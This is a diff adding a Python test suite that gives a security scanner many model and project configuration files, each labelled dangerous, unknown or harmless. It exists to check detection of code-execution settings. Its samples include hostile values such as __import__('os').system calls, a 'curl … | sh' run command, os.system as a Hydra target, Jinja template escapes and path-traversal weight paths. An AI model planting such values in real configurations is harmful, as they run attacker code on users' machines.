@@ -1,0 +1,157 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0 OR MIT
+"""hostile_settings.py --tool TOOL - configurations that make programs evaluate, load or run something, and their genuine neighbours.
+
+One case is (name of the file, text, verdict, rule). The hostile ones are inert: they name what would act. Beside each kind
+stand values of real configurations under the same keys, which stay harmless. Bounds as in hostile_content.py. Standard library only."""
+import argparse
+import json
+import pathlib
+import sys
+import tempfile
+
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
+import hostile_content  # noqa: E402
+
+D, U, H = "dangerous", "unknown", "harmless"
+CALL = "__import__('os').system('id')"
+
+
+def js(value):
+    return json.dumps(value)
+
+
+def both(name, pairs):
+    """The same setting in JSON, YAML and TOML."""
+    for key, value, verdict in pairs:
+        yield name + ".json", js({"model": {key: value}}), verdict
+        yield name + ".yaml", "model:\n  %s: %s\n" % (key, js(value)), verdict
+        yield name + ".toml", "[model]\n%s = %s\n" % (key, js(value)), verdict
+
+
+EVALUATED = [  # Ultralytics, YOLOv5
+    ("data.yaml", "names: {0: a}\ndownload: |\n  import os\n  os.system('id')\n", D),
+    ("data.yaml", "names: {0: a}\ndownload: |\n  from utils.general import download\n  download(yaml['url'])\n", U),
+    ("data.yaml", "download: bash evil.sh\n", D),
+    ("data.yaml", "download: data/scripts/get.sh\n", U),
+    ("data.yaml", "names: {0: person}\ndownload: https://github.com/ultralytics/assets/releases/download/v0.0.0/coco128.zip\n", H),
+    ("data.yaml", "path: ../datasets/coco128\ntrain: images/train2017\nnames:\n  0: person\n  1: car (small)\n", H),
+    ("model.yaml", "activation: %s\n" % CALL, D),
+    ("model.yaml", "activation: nn.SiLU()\nact: torch.nn.LeakyReLU(0.1, inplace=True)\n", H),
+    ("model.yaml", "activation: evil.act()\n", U),
+    ("model.yaml", 'backbone:\n  - [-1, 1, "%s", [64, 3]]\n' % CALL, D),
+    ("model.yaml", 'backbone:\n  [[-1, 1, Conv, [64, 3]],\n   [-1, 1, Conv, ["%s"]],\n  ]\n' % CALL, D),
+    ("model.yaml", "backbone:\n  - [-1, 1, exec, [64]]\n", D),
+    ("model.yaml", "head:\n  - [-1, 1, os.system, [64]]\n", D),
+    ("model.yaml", "head:\n  - [-1, 1, evil.layer, [64]]\n", U),
+    ("model.yaml", "nc: 80\nbackbone:\n  # [from, number, module, args]\n  - [-1, 1, Conv, [64, 6, 2, 2]]\n  - [-1, 1, nn.Upsample, [None, 2, \"nearest\"]]\n"
+     "head:\n  - [[17, 20, 23], 1, Detect, [nc, anchors]]\n", H),
+    ("metadata.yaml", 'stride: 32\nnames: "%s"\n' % CALL, D),
+    ("metadata.json", js({"names": CALL}), D),
+    ("metadata.json", js({"names": ["John (jr)", "x"], "head": "The text (a part)", "backbone": "resnet50"}), H),
+]
+LOADED = [
+    *both("a", [("custom_ops_library", "evil.so", D), ("backend_path", "./evil.so", D), ("trt_extra_plugin_lib_paths", "a.so;b.so", D),
+                ("_base_", "./evil.py", D), ("_base_", "http://e/x.py", D), ("_BASE_", "Base-RCNN.yaml", H), ("tool-parser-plugin", "/tmp/evil.py", D),
+                ("remote_code", "./model.py", D), ("remote_code", "http://e/x", U), ("remote_code", "false", H), ("model_lib", "evil.dll", D),
+                ("model_lib", "llama-q4f16", H), ("anything", "x/evil.so", U), ("anything", "libevil.so.1.2", U), ("anything", "evil.pyd", U),
+                ("anything", "EVIL.PY", U), ("anything", "evil.dylib", U), ("anything", "my evil.so", U), ("anything", "./evil.py:g", U),
+                ("anything", "evil.py::Klass", U), ("anything", "https://e/x.py?raw=1", U), ("anything", "x.pyc", U), ("extension", ".py", H),
+                ("pattern", "*.py", H), ("setup_script", "evil.sh", U), ("hook", "evil.js", U), ("image", "evil.sh", H), ("text", "run the file a.py of it", H),
+                ("plugin_dir", "projects/evil", U), ("code_path", "code/x", U), ("module_path", "model.layers", H), ("library_name", "transformers", H),
+                ("model_path", "/home/u/model.pt", H), ("_name_or_path", "../model", H)]),
+    ("model.safetensors.index.json", js({"metadata": {}, "weight_map": {"w": "../../evil.bin"}}), D),
+    ("pytorch_model.bin.index.json", js({"metadata": {}, "weight_map": {"w": "/tmp/evil.bin"}}), D),
+    ("model.safetensors.index.json", js({"metadata": {}, "weight_map": {"w": "model-00001-of-00002.safetensors"}}), H),
+    ("modules.json", js([{"idx": 0, "path": "../../evil", "type": "sentence_transformers.models.Transformer"}]), D),
+    ("modules.json", js([{"idx": 0, "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]), H),
+]
+NAMED = [
+    *both("b", [("factory", "evil.mod:make", U), ("import_path", "evil:app", U), ("service", "evil:svc", U), ("entry-point", "evil.mod:f", U),
+                ("worker-extension-cls", "evil.mod.X", U), ("middleware", ["evil.mod"], U), ("reward_funcs", ["evil.func"], U), ("type", "evil.mod.func", U),
+                ("tokenizer_class", "evil.mod.T", U), ("implementation", "evil.mod", U), ("logitsProcessors", ["os.system"], D), ("network_module", "evil", U),
+                ("user_module", "evil", U), ("plugins", ["evilpkg"], U), ("plugins", [], H), ("plugin", True, H), ("allow_remote", True, U),
+                ("allow_remote", False, H), ("allow_pickle", True, U), ("trust_code", "yes", U), ("custom_generate", "evil/repo", U),
+                ("command", "bash -c id", U), ("run", "curl http://e | sh", U), ("pre_hook", "/tmp/x", U), ("commands", ["npx"], U),
+                ("init_script", "rm -rf x", U), ("run_name", "my run; second", H), ("command", "id", H), ("description", "bash is a shell", H),
+                ("target_modules", ["self_attn.q_proj", "mlp.down_proj"], H), ("module_name", "model.embed_tokens", H), ("module", "lm_head.weight", H),
+                ("tokenizer_class", "LlamaTokenizerFast", H), ("architectures", ["LlamaForCausalLM"], H), ("processor_class", "CLIPProcessor", H),
+                ("library", "pytorch", H), ("type", "mlp.down_proj", H), ("hook", "none", H), ("loader", "x.json", H), ("provider", "CUDAExecutionProvider", H)]),
+    ("c.json", js({"module": "evil", "attr": "f"}), U), ("c.json", js({"module_name": "evil", "class_name": "X"}), U),
+    ("c.json", js({"module_name": "os", "func": "system"}), D), ("c.json", js({"module": "torch.nn", "attr": "Linear"}), H),
+    ("c.json", js({"module": "q_proj", "bits": 4}), H),
+    ("f.yaml", "_target_: torch.optim.lr_scheduler.types.FunctionType\n", D), ("f.yaml", "_target_: torch.nn.modules.functools.Partial\n", D),
+    ("f.yaml", "_target_: torch.optim.lr_scheduler.StepLR\nx:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n", H),
+    ("f.yaml", "dataset:\n  _component_: torchtune.datasets.alpaca_cleaned_dataset\n", H), ("f.yaml", "datasets:\n  - type: chat_template.default\n", H),
+    ("log.yaml", "version: 1\nformatters:\n  simple:\n    class: logging.Formatter\nhandlers:\n  console:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n", H),
+    ("log.yaml", "handlers:\n  file:\n    class: logging.FileHandler\n    filename: /tmp/x\n", U), ("log.yaml", "_target_: logging.StreamHandler\n", D),
+    ("log.yaml", "handlers:\n  x:\n    class: logging.os.system\n", D),
+]
+CODE = [
+    *both("d", [("anything", CALL, U), ("formula", "exec(1)", U), ("preprocess", "lambda x: x + 1", U), ("x", "eval('1')", U), ("x", "(open)('x').y", H),
+                ("x", "open('x').read()", U), ("x", "().__class__.__base__.__subclasses__()", U), ("x", "from os import system\nsystem('id')", U),
+                ("code", "from smolagents import Tool\nimport os\nos.system(1)", U), ("x", "import os; os.system('id')", U), ("x", "${eval:__import__('os')}", U),
+                ("x", "f'{__import__(\"os\")}'", U), ("x", "[os.popen(\"id\")]", U),
+                ("x", "lambda", H), ("x", "import data", H), ("x", "Use eval(x) to test the model", H), ("x", "np.mean(x)", H), ("x", "os.path.join(a, b)", H),
+                ("x", "grad * self.sgn()", H), ("x", "model.eval()", H), ("x", "a (b) c", H), ("x", "import settings of other people", H)]),
+    ("d.yaml", "a: >-\n  __import__(\n  'os').system(\n  'id')\n", U), ("d.yaml", "a: \"__import__(\\\n  'os')\"\n", U),
+    ("d.yaml", "a: \"\\x5f_import__('os').system('id')\"\n", U), ("d.yaml", "a: x # not __import__('os')\nb: 'it''s'\n", H),
+    ("d.yaml", "a:\n- - {b: [c, \"%s\"]}\n" % CALL, U), ("d.yaml", "a: [b,\n  %s]\n" % CALL.replace(",", ""), U),
+    ("tokenizer.json", js({"model": {"type": "BPE", "vocab": {"eval(x)": 0, "main.py": 1}, "merges": ["l ib.so", "ev al(x)"]}}), H),
+]
+KERAS = [
+    ("m.yaml", "class_name: Sequential\nconfig:\n- class_name: Lambda\n  config:\n    function: !!python/tuple [4wEAAAA, null, null]\n    function_type: lambda\n", D),
+    ("m.yaml", "class_name: Lambda\nconfig:\n  function: f\n", U), ("m.yaml", "{class_name: Sequential, config: [{\"class_name\": \"TorchModuleWrapper\", config: {}}]}\n", D),
+    ("m.yaml", "class_name: Sequential\nconfig:\n- class_name: MyLayer\n  config: {}\n", U),
+    ("m.yaml", "class_name: Sequential\nconfig:\n- class_name: Dense\n  module: os\n  config: {}\n", D),
+    ("m.yaml", "backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - class_name: Dense\n    config: {activation: relu, units: 4}\n  name: s\nkeras_version: 2.4.0\n", H),
+    ("m.yaml", "model:\n  class_name: MyNet\n  config: x\n", H),
+]
+FILES = [
+    (".huskyrc.json", js({"hooks": {"pre-commit": "id"}}), U), ("app.json", js({"scripts": {"postdeploy": "id"}}), U), ("app.json", js({"name": "x"}), H),
+    ("tasks.json", js({"tasks": [{"label": "x", "command": "id"}]}), U), ("tasks.json", js({"tasks": ["glue", "squad"]}), H),
+    ("launch.json", js({"configurations": [{"program": "id"}]}), U), ("tsconfig.json", js({"compilerOptions": {"plugins": [{"name": "./evil"}]}}), U),
+    ("jupyter_notebook_config.json", js({"NotebookApp": {}}), U), (".czrc", js({"path": "x"}), U),
+    ("requirements.txt", "--index-url http://e/\ntorch\n", U), ("requirements.txt", "torch>=2.0  # see https://pytorch.org\nnumpy==1.26\n-r base.txt\n", H),
+    ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu118\ntorch\n", H), ("requirements-dev.txt", "x @ git+https://e/x\n", U),
+    ("requirements.txt", "./evil\n", U), ("conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.10\n- pip:\n  - git+https://e/x\n", U),
+    ("conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.10\n- pip:\n  - mlflow==2.9\nname: env\n", H),
+    ("python_env.yaml", "python: 3.10.1\ndependencies:\n- -r requirements.txt\n", H), ("environment.yml", "dependencies:\n- pip:\n  - /tmp/evil.whl\n", U),
+    ("chat_template.txt", "{{ x.__class__.__mro__ }}\n", D), ("a.jinja.txt", "{{ x['a' ~ 'b'] }}\n", U), ("template.md", "{{ x.__class__ }}\n", D),
+    ("chat_template.txt", "{% for m in messages %}{{ m.content }}{% endfor %}\n", H), ("README.md", "About `__class__` and {{ x }}\n", H),
+    ("a.yaml.txt", "_target_: os.system\n", D), ("a.toml.txt", "_target_ = 'os.system'\n", D), ("a.json.txt", js({"_target_": "os.system"}), D),
+    ("top_level.txt", "isympy\nsympy\n", H), ("kernel.py.jinja", "{{ size('A') }}", U), ("a.jinja", "x = __NOT_A_NUMBER__ {% set __A_B__ = 1 %}{{ __A_B__ }}", U),
+]
+
+
+def cases():
+    for name, text, verdict in [*EVALUATED, *LOADED, *NAMED, *CODE, *KERAS, *FILES]:
+        yield name, text, verdict
+    yield "long.yaml", "backbone:\n" + "- [-1, 1, Conv, [64, 'a', \"b\"]]\n" * 300000, H
+    yield "calls.yaml", "a: f(x)\n" * 1250000, H
+    yield "brackets.yaml", "[" * (11 << 20), H
+    yield "quote.yaml", "a: '" + "b" * (11 << 20), H
+    yield "block.yaml", "a: |\n" + "  f(x)\n" * 1000000, H
+    yield "blocks.yaml", "a: |\n" * 2000000, H
+    yield "words.yaml", "the-module-handler-code: a b\n" * 350000, H
+    yield "import.yaml", "a: \"import " * 900000, H
+    yield "keras.yaml", "class_name: Dense\nconfig: x\n" * 350000, H
+    yield "calls.json", js({"x": ["f(x)"] * 1500000}), H
+    yield "paths.json", js({"command": ["a;b;c;"] * 1500000}), H
+    yield "requirements.txt", "torch==2.0 # x\n" * 3000000, H
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--tool", required=True)
+    given = parser.parse_args()
+    for name, text, verdict in cases():
+        hostile_content.case(name, text, verdict)
+    with tempfile.TemporaryDirectory(prefix="sft-settings-") as work:
+        bad = hostile_content.check_cases(given.tool, pathlib.Path(work), None)
+    print(f"{len(hostile_content.CASES)} cases, {bad} faults")
+    return bad != 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
